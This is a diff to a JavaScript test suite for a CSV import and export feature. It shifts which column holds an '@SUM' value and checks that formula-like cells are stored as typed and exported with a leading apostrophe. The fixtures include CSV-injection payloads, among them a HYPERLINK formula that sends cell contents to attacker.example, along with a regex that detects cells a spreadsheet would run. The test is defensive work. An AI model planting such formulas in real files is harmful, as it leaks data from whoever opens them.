@@ -464,14 +464,15 @@ describe('the export', () => {
     // a value that begins with an apostrophe before = (written guarded: ''=), and one with an
     // apostrophe only.
     const hostile = [
-      `12400000001,"=cmd@example.jp","@SUM(A1:A9)","=HYPERLINK(""https://attacker.example/""&D2&G2,""詳細"")",-,"+81 3 1234 5678",+81 3 1234 5678`,
+      // '@' in a department (a person's name refuses it, as the forms do: personNameField).
+      `12400000001,"=cmd@example.jp",-,"=HYPERLINK(""https://attacker.example/""&D2&G2,""詳細"")","@SUM(A1:A9)","+81 3 1234 5678",+81 3 1234 5678`,
       `12400000002,apos@example.jp,"''=1+1",'80s 商会,"	総務部",東京都,-03-1234`,
     ];
     await upload(admin, 'formulas.csv', Buffer.from(csv([CSV_HEADER, ...hostile])));
     expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', rejected: 0, inserted: 2 });
     const stored = await web.app.db('accounts').whereIn('jsa_id', ['12400000001', '12400000002']).orderBy('jsa_id').select('email', 'contact_name', 'company', 'department', 'address', 'phone');
     expect(stored).toEqual([
-      { email: '=cmd@example.jp', contact_name: '@SUM(A1:A9)', company: '=HYPERLINK("https://attacker.example/"&D2&G2,"詳細")', department: '-', address: '+81 3 1234 5678', phone: '+81 3 1234 5678' },
+      { email: '=cmd@example.jp', contact_name: '-', company: '=HYPERLINK("https://attacker.example/"&D2&G2,"詳細")', department: '@SUM(A1:A9)', address: '+81 3 1234 5678', phone: '+81 3 1234 5678' },
       // The tab in front of 総務部 is trimmed by the forms' rules, as typed on a screen.
       { email: 'apos@example.jp', contact_name: "'=1+1", company: "'80s 商会", department: '総務部', address: '東京都', phone: '-03-1234' },
     ]);
@@ -481,7 +482,7 @@ describe('the export', () => {
       const got = await download(supervisor, begun.ticket);
       const text = encoding === 'utf-8' ? got.bytes.toString('utf8') : iconv.decode(got.bytes, 'cp932');
       const lines = text.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
-      expect(lines).toContain(`"12400000001","'=cmd@example.jp","'@SUM(A1:A9)","'=HYPERLINK(""https://attacker.example/""&D2&G2,""詳細"")","'-","'+81 3 1234 5678","'+81 3 1234 5678"`);
+      expect(lines).toContain(`"12400000001","'=cmd@example.jp","'-","'=HYPERLINK(""https://attacker.example/""&D2&G2,""詳細"")","'@SUM(A1:A9)","'+81 3 1234 5678","'+81 3 1234 5678"`);
       expect(lines).toContain(`"12400000002","apos@example.jp","''=1+1","'80s 商会","総務部","東京都","'-03-1234"`);
       // No cell of the whole file begins with what a spreadsheet runs.
       for (const line of lines.slice(1)) for (const cellText of line.slice(1, -1).split('","')) expect(cellText).not.toMatch(/^[=+\-@\t\r]/);
